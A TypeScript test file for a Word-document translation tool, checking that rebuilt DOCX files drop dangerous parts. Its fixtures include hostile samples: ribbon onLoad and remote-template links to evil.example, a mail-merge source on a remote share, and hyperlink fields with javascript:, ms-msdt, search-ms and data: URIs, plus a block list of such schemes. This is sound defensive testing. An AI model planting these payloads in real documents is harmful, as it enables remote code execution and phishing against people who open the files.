import { expect, test } from 'vitest'
import { contentTypes, documentRelationships } from '../testing/docx/generate/parts.ts'
import { zipFiles } from '../testing/docx/generate/zip-files.ts'
import { generateFiles } from '../testing/docx/generate.ts'
import { readParts } from '../testing/docx/test-reader.ts'
import { format } from './format.ts'
import { neutralTarget } from './package/external-target.ts'

const base = generateFiles({ pages: 1 })
const relation = (id: string, type: string, target: string) =>
  `<Relationship Id="${id}" Type="${type}" Target="${target}"/>`
const related = (xml: string, ...more: string[]) => xml.replace('</Relationships>', `${more.join('')}</Relationships>`)
const rootRelations = String(base.find(({ name }) => name === '_rels/.rels')?.data)

/** A document with other parts, as it comes out. */
async function rebuilt(parts: Record<string, string>, certified = false): Promise<Map<string, string>> {
  const known = new Set(base.map(({ name }) => name))
  const source = zipFiles([
    ...base.map((file) => ({ ...file, data: parts[file.name] ?? file.data })),
    ...Object.entries(parts)
      .filter(([name]) => !known.has(name))
      .map(([name, data]) => ({ name, data })),
  ])
  const { units } = await format.extract(source)
  const targets = new Map(units.map(({ id, pieces }) => [id, { id, pieces }]))
  return readParts((await format.rebuild(source, targets, { source: 'en', target: 'es', certified })).bytes)
}

/** Certified files hide nothing, and have no fields in their text. */
const unhidden = (xml: string | undefined) =>
  xml?.replaceAll(/<w:webHidden\/>|<w:fldChar [^>]*>|<w:instrText.*?<\/w:instrText>/g, '')

test.each([
  ['2006/relationships/ui/extensibility', 'http://schemas.microsoft.com/office/2006/01/customui'],
  ['2007/relationships/ui/extensibility', 'http://schemas.microsoft.com/office/2009/07/customui'],
])('U5: a ribbon of the document’s own calls nobody (%s)', async (type, namespace) => {
  const parts = await rebuilt({
    'customUI/ribbon.xml': `<x:customUI xmlns:x="${namespace}" onLoad="https://evil.example/t.dotm!run"/>`,
    '_rels/.rels': related(
      rootRelations,
      relation('ui', `http://schemas.microsoft.com/office/${type}`, 'customUI/ribbon.xml'),
    ),
  })
  expect(parts.get('customUI/ribbon.xml')).toBe(`<customUI xmlns="${namespace}"/>`)
})

/** A document has one part of settings. */
const withoutSettings = documentRelationships.replace(/<Relationship [^>]*settings\.xml"[^>]*>/, '')

test('U5: no program of the web opens beside the document', async () => {
  const namespace = 'http://schemas.microsoft.com/office/webextensions/taskpanes/2010/11'
  const parts = await rebuilt({
    'word/panes.xml': `<p:taskpanes xmlns:p="${namespace}" xmlns:r="urn:r"><p:taskpane visibility="1"><p:webextensionref r:id="a"/></p:taskpane></p:taskpanes>`,
    '_rels/.rels': related(
      rootRelations,
      relation(
        'panes',
        'http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes',
        'word/panes.xml',
      ),
    ),
  })
  expect(parts.get('word/panes.xml')).toBe(`<taskpanes xmlns="${namespace}"/>`)
})

test('U5: the data source of a mail merge, which Word opens with the document, does not leave with it', async () => {
  const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const settings = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings'
  const parts = await rebuilt({
    'word/merge.xml': `<x:settings xmlns:x="${w}"><x:zoom x:percent="90"/><x:mailMerge><x:connectString x:val="Data Source=\\\\evil\\x.mdb"/><x:query x:val="SELECT 1"/></x:mailMerge></x:settings>`,
    'word/_rels/document.xml.rels': related(withoutSettings, relation('merge', settings, 'merge.xml')),
  })
  expect(parts.get('word/merge.xml')).not.toMatch(/mailMerge|evil|SELECT/)
  expect(parts.get('word/merge.xml')).toContain('<x:zoom x:percent="90"/>')
})

test.each([
  ['settings', '<w:mailMerge><w:query w:val="evil"/></w:mailMerge>'],
  ['stylesWithEffects', '<w:style w:type="paragraph" w:default="1"><w:rPr><w:vanish/></w:rPr></w:style>'],
])('U5: %s that nest deeper than they are read here are not handed on to Word', async (name, inner) => {
  const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const deep = `${'<x>'.repeat(400)}${'</x>'.repeat(400)}`
  const root = `w:${name.replace('WithEffects', '')}`
  const kind = `http://schemas.microsoft.com/office/2007/relationships/${name}`
  const files = {
    [`word/${name}.xml`]: `<${root} xmlns:w="${w}">${inner}${deep}</${root}>`,
    'word/_rels/document.xml.rels': related(withoutSettings, relation('deep', kind, `${name}.xml`)),
  }
  expect((await rebuilt(files, true)).get(`word/${name}.xml`)).toBe(`<${root} xmlns:w="${w}"/>`)
})

test('settings in letters that nobody can read are written anew', async () => {
  const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const data = Buffer.from(`<w:settings xmlns:w="${w}"><w:x w:val="caf\xe9"/></w:settings>`, 'latin1')
  const source = zipFiles(base.map((file) => (file.name === 'word/settings.xml' ? { ...file, data } : file)))
  const { bytes } = await format.rebuild(source, new Map(), { source: 'en', target: 'es' })
  expect(readParts(bytes).get('word/settings.xml')).toBe(`<w:settings xmlns:w="${w}"/>`)
})

test('U5: what is made harmless of a text stays so where another relationship calls it the settings', async () => {
  const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const settings = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/settings'
  const parts = await rebuilt({
    'word/document.xml': `<w:document xmlns:w="${w}"><w:body><w:p><w:fldSimple w:instr="HYPERLINK javascript:x"><w:r><w:t>Words</w:t></w:r></w:fldSimple></w:p><w:mailMerge/></w:body></w:document>`,
    'word/_rels/document.xml.rels': related(withoutSettings, relation('more', settings, 'document.xml')),
  })
  expect(parts.get('word/document.xml')).not.toMatch(/javascript|mailMerge/)
})

test.each([
  ['word/document.xml', '<a:blip x:link="far"/>'],
  ['word/document.xml', '<v:imagedata y="&gt;" x:id="far"/>'],
  ['word/settings.xml', '<w:attachedTemplate x:id="far"/>'],
])('U5: nothing of %s is loaded from where a link leads (%s)', async (part, loads) => {
  const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const spaces =
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:v="urn:schemas-microsoft-com:vml" xmlns:x="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
  const kind = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const links = `${relation('far', `${kind}/hyperlink`, 'https://evil.example/x')}${relation('page', `${kind}/hyperlink`, 'https://a.example/')}`
  const words = '<w:hyperlink x:id="page"><w:r><w:t>Words</w:t></w:r></w:hyperlink>'
  const isMain = part === 'word/document.xml'
  const parts = await rebuilt({
    'word/document.xml': `<w:document xmlns:w="${w}" ${spaces}><w:body><w:p>${words}<w:r>${isMain ? loads : ''}</w:r></w:p></w:body></w:document>`,
    ...(!isMain && { [part]: `<w:settings xmlns:w="${w}" ${spaces}>${loads}</w:settings>` }),
    [part
      .replace('word/', 'word/_rels/')
      .concat(
        '.rels',
      )]: `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${links.replaceAll('/>', ' TargetMode="External"/>')}</Relationships>`,
  })
  const found = parts.get(part.replace('word/', 'word/_rels/').concat('.rels'))
  expect(found).not.toContain('evil')
  expect(found).toContain('https://a.example/')
})

test('U5: a file that somebody vouches for has no fonts of its own, which may show another text', async () => {
  const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const r = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const fonts = {
    'word/fontTable.xml': `<x:fonts xmlns:x="${w}" xmlns:r="${r}"><x:font x:name="House"><x:family x:val="swiss"/><x:embedRegular r:id="a" x:fontKey="{0}"/><x:embedBold r:id="b"></x:embedBold></x:font></x:fonts>`,
    'word/_rels/fontTable.xml.rels': related(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
      relation('a', `${r}/font`, 'fonts/font1.odttf'),
      relation('b', `${r}/font`, 'fonts/House-bold.ttf'),
    ),
    'word/fonts/font1.odttf': 'letters',
    'word/fonts/House-bold.ttf': 'letters',
    'word/_rels/document.xml.rels': related(
      documentRelationships,
      relation('fonts', `${r}/fontTable`, 'fontTable.xml'),
    ),
    '[Content_Types].xml': contentTypes.replace(
      '</Types>',
      '<Default Extension="ttf" ContentType="application/x-font-ttf"/><Override PartName="/word/fonts/font1.odttf" ContentType="application/vnd.openxmlformats-officedocument.obfuscatedFont"/></Types>',
    ),
  }
  const kept = await rebuilt(fonts)
  for (const name of Object.keys(fonts)) expect(kept.has(name)).toBe(true)
  expect(kept.get('word/fontTable.xml')).toContain('embedRegular')
  const parts = await rebuilt(fonts, true)
  expect(parts.get('word/fontTable.xml')).toBe(
    `<x:fonts xmlns:x="${w}" xmlns:r="${r}"><x:font x:name="House"><x:family x:val="swiss"/></x:font></x:fonts>`,
  )
  expect([...parts.keys()].filter((name) => /font/i.test(name))).toEqual(['word/fontTable.xml'])
  expect(parts.get('[Content_Types].xml')).not.toContain('font1')
  expect(parts.get('word/document.xml')).toBe(unhidden(kept.get('word/document.xml')))
})

test('U5: a table of fonts that cannot be read here names none of its own either', async () => {
  const kind = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/fontTable'
  const parts = await rebuilt(
    {
      'word/fontTable.xml': '<w:fonts><w:embedRegular r:id="a"/>',
      'word/_rels/document.xml.rels': related(documentRelationships, relation('fonts', kind, 'fontTable.xml')),
    },
    true,
  )
  expect(parts.get('word/fontTable.xml')).toMatch(/^<w:fonts [^>]*\/>$/)
})

test('U5: what is translated or made harmless stays so in a file that somebody vouches for, whatever it is called', async () => {
  const table = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/fontTable'
  const link = `<Relationship Id="evil" Type="${table.replace('fontTable', 'hyperlink')}" Target="javascript:x" TargetMode="External"/>`
  const files = {
    'word/_rels/document.xml.rels': related(documentRelationships, link),
    'docProps/_rels/app.xml.rels': related(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
      relation('a', table, '/word/document.xml'),
      relation('b', table, '/word/_rels/document.xml.rels'),
    ),
  }
  const [kept, parts] = [await rebuilt(files), await rebuilt(files, true)]
  for (const name of ['word/document.xml', 'word/_rels/document.xml.rels'])
    expect(parts.get(name)).toBe(unhidden(kept.get(name)))
  expect(parts.get('word/_rels/document.xml.rels')).not.toContain('javascript')
})

test('U5: a table of fonts has none of its own in such a file, though another relationship calls it a header', async () => {
  const r = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const parts = await rebuilt(
    {
      'word/fontTable.xml': `<w:fonts xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${r}"><w:font w:name="House"><w:embedRegular r:id="a"/></w:font><w:p><w:r><w:t>Words</w:t></w:r></w:p></w:fonts>`,
      'word/_rels/fontTable.xml.rels': related(
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
        relation('a', `${r}/font`, 'fonts/font1.odttf'),
      ),
      'word/fonts/font1.odttf': 'letters',
      'word/_rels/document.xml.rels': related(
        documentRelationships,
        relation('fonts', `${r}/fontTable`, 'fontTable.xml'),
        relation('unused', `${r}/header`, 'fontTable.xml'),
      ),
    },
    true,
  )
  expect(parts.get('word/fontTable.xml')).not.toContain('embed')
  expect(parts.get('word/fontTable.xml')).toContain('Words')
  expect(parts.has('word/fonts/font1.odttf')).toBe(false)
})

const other = (from: string, to: string) =>
  documentRelationships.replace(`relationships/${from}"`, `relationships/${to}"`)
const drawing = (inside: string) =>
  `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:c="urn:c" xmlns:r="urn:r"><w:body><w:p><w:r><w:t>Words</w:t><w:drawing>${inside}</w:drawing></w:r></w:p></w:body></w:document>`
const fontTable = (kind: string) => {
  const r = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  return {
    'word/fontTable.xml': `<w:fonts xmlns:w="urn:w" xmlns:r="${r}"><w:font><w:embedRegular r:id="a"/></w:font></w:fonts>`,
    'word/_rels/fontTable.xml.rels': related(
      '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>',
      relation('a', `${r}/${kind}`, 'fonts/font1.odttf'),
    ),
    'word/fonts/font1.odttf': 'letters',
    'word/_rels/document.xml.rels': related(documentRelationships, relation('f', `${r}/fontTable`, 'fontTable.xml')),
  }
}

test.each<[string, Record<string, string>]>([
  ['a header', { 'word/_rels/document.xml.rels': other('header', 'image') }],
  ['a footer', { 'word/_rels/document.xml.rels': other('footer', 'hyperlink') }],
  [
    'a chart',
    {
      'word/document.xml': drawing('<c:chart r:id="rIdChart"/>'),
      'word/_rels/document.xml.rels': other('chart', 'image'),
    },
  ],
  ['a diagram', { 'word/document.xml': drawing('<c:relIds r:dm="rIdChart"/>') }],
  ['a font', fontTable('image')],
])('U5: %s that is named as something else, so that nobody would read it, refuses the file', async (_, parts) => {
  await expect(rebuilt(parts)).rejects.toMatchObject({ verdict: 'corrupt' })
})

test('U5: so does the drawing of a diagram; an id of another file, which leads to no drawing, costs nothing', async () => {
  const r = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
  const dsp = 'http://schemas.microsoft.com/office/drawing/2008/diagram'
  const diagram = (leadsTo: string) => ({
    'word/document.xml': drawing('<c:relIds r:dm="data"/>'),
    'word/_rels/document.xml.rels': related(
      documentRelationships,
      relation('data', `${r}/diagramData`, 'diagrams/data1.xml'),
      relation('drawn', `${r}/image`, 'diagrams/drawing1.xml'),
    ),
    'word/diagrams/data1.xml': `<d:dataModel xmlns:d="urn:d"><x:dataModelExt xmlns:x="${dsp}" relId="${leadsTo}"/></d:dataModel>`,
    'word/diagrams/drawing1.xml': `<x:drawing xmlns:x="${dsp}"><x:spTree/></x:drawing>`,
  })
  await expect(rebuilt(diagram('drawn'))).rejects.toMatchObject({ verdict: 'corrupt' })
  expect((await rebuilt(diagram('rIdS'))).has('word/diagrams/data1.xml')).toBe(true)
})

test('U5: a header, a footer, a chart and a font under their own names pass', async () => {
  expect((await rebuilt({ 'word/document.xml': drawing('<c:chart r:id="rIdChart"/>') })).size).toBeGreaterThan(9)
  expect((await rebuilt(fontTable('font'))).get('word/header1.xml')).toContain('Confidential')
  const strict = documentRelationships.replaceAll(
    'http://schemas.openxmlformats.org/officeDocument/2006/relationships',
    'http://purl.oclc.org/ooxml/officeDocument/relationships',
  )
  expect((await rebuilt({ 'word/_rels/document.xml.rels': strict })).get('word/header1.xml')).toContain('Confidential')
})

test('U5: a link opens a page, a message or a file; it starts nothing', () => {
  for (const address of [
    'javascript:x',
    'java\tscript:x',
    '\u0001javascript:x',
    'smb://x',
    'search-ms:x',
    'data:text/html,x',
  ])
    expect(neutralTarget('hyperlink', address)).toBe('about:blank')
  for (const address of [
    'https://a.example',
    'mailto:a@b.example',
    'a/b.docx',
    '#top',
    'C:\\a.docx',
    '../a:b',
    'about.html',
    '',
  ])
    expect(neutralTarget('hyperlink', address)).toBe(null)
})

const shown = '<w:r><w:t>shown</w:t></w:r>'
const complex = (...codes: string[]) =>
  `<w:r><w:fldChar w:fldCharType="begin"/></w:r>${codes.map((code) => `<w:r><w:instrText>${code}</w:instrText></w:r>`).join('')}<w:r><w:fldChar w:fldCharType="separate"/></w:r>${shown}<w:r><w:fldChar w:fldCharType="end"/></w:r>`
const simple = (code: string) => `<w:fldSimple w:instr="${code}">${shown}</w:fldSimple>`
const shape = (inside: string) => `<w:r><w:pict xmlns:v="urn:schemas-microsoft-com:vml">${inside}</w:pict></w:r>`
const bodyOf = async (body: string) =>
  (
    await rebuilt({
      'word/document.xml': `<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Words</w:t></w:r>${body}</w:p></w:body></w:document>`,
    })
  ).get('word/document.xml')

test.each([
  complex(' HYPERLINK "javascript:x" \\o "A tip" '),
  complex('HYPER', 'LINK "search-', 'ms:query" '),
  complex(' HYPERLINK \\o "A tip" \\n vbscript:x'),
  complex(' HYPERLINK &quot;java\tscript:x&quot;'),
  simple('HYPERLINK &quot;ms-msdt:/id x&quot;'),
  simple('hyperlink \\l &quot;a&quot; &quot;data:text/html,x&quot;'),
  shape('<v:shape href="javascript:x"/>'),
  shape('<v:shape><v:imagedata src="https://evil.example/x.png"/></v:shape>'),
])('U5: a link that a field or a shape holds starts nothing either (%s)', async (body) => {
  const found = await bodyOf(body)
  expect(found).not.toMatch(/script:|search-|msdt|data:|evil/)
  expect(found).toContain('Words')
})

test.each([
  complex('INCLUDEPICTURE "https://a.example/x.png"').replace('"begin"', '"begin" w:dirty="true"'),
  simple('IMPORT &quot;//a/b/x.png&quot;').replace('<w:fldSimple', '<w:fldSimple w:dirty="1"'),
])('U5: a picture that the file holds is not fetched anew as it opens (%s)', async (body) => {
  const found = await bodyOf(body)
  expect(found).toContain('w:dirty="0"')
  expect(found).toContain('shown')
})

test('U5: no field of a file that somebody vouches for is renewed as it opens', async () => {
  const w = 'http://schemas.openxmlformats.org/wordprocessingml/2006/main'
  const dirty = complex(' HYPERLINK "a.htm" ').replace('"begin"', '"begin" w:dirty="true"')
  const files = {
    'word/document.xml': `<w:document xmlns:w="${w}"><w:body><w:p>${dirty}${simple('HYPERLINK a.htm').replace('<w:fldSimple', '<w:fldSimple w:dirty="1"')}</w:p></w:body></w:document>`,
    'word/settings.xml': `<w:settings xmlns:w="${w}"><w:zoom w:percent="90"/><w:mailMerge><w:updateFields/></w:mailMerge><w:updateFields w:val="true"/></w:settings>`,
  }
  const [kept, parts] = [await rebuilt(files), await rebuilt(files, true)]
  expect(kept.get('word/document.xml')).toBe(files['word/document.xml'])
  expect(kept.get('word/settings.xml')).toContain('<w:updateFields w:val="true"/>')
  expect(parts.get('word/document.xml')).toBe(files['word/document.xml'].replace(/w:dirty="[^"]*"/g, 'w:dirty="0"'))
  expect(parts.get('word/settings.xml')).toBe(`<w:settings xmlns:w="${w}"><w:zoom w:percent="90"/></w:settings>`)
})

test('U5: a video of the web has no page of its own', async () => {
  const page = '&lt;iframe src=&quot;https://evil.example/&quot;&gt;&lt;script&gt;'
  const wp15 = 'http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing'
  const video = `<x:webVideoPr xmlns:x="${wp15}" embeddedHtml="${page}" h="315" w="560"/>`
  const found = await bodyOf(`<w:r><w:drawing>${video}</w:drawing></w:r>`)
  expect(found).toContain(video.replace(page, ''))
})

test('U5: and what a field counts or gathers within the document may be stale', async () => {
  const body = complex(' TOC \\o "1-3" ').replace('"begin"', '"begin" w:dirty="true"')
  expect(await bodyOf(body)).toContain(body)
})

test.each([
  complex(' HYPERLINK "https://a.example/b?c=d" \\o "A tip" '),
  complex(' HYPERLINK \\l "javascript" '),
  complex('HYPERLINK \\l'),
  simple('HYPERLINK &quot;C:\\\\a\\\\b.docx&quot;'),
  shape('<v:shape href="https://a.example/b"/>'),
])('U5: and one that opens a page, a place or a file stays (%s)', async (body) => {
  expect(await bodyOf(body)).toContain(body)
})
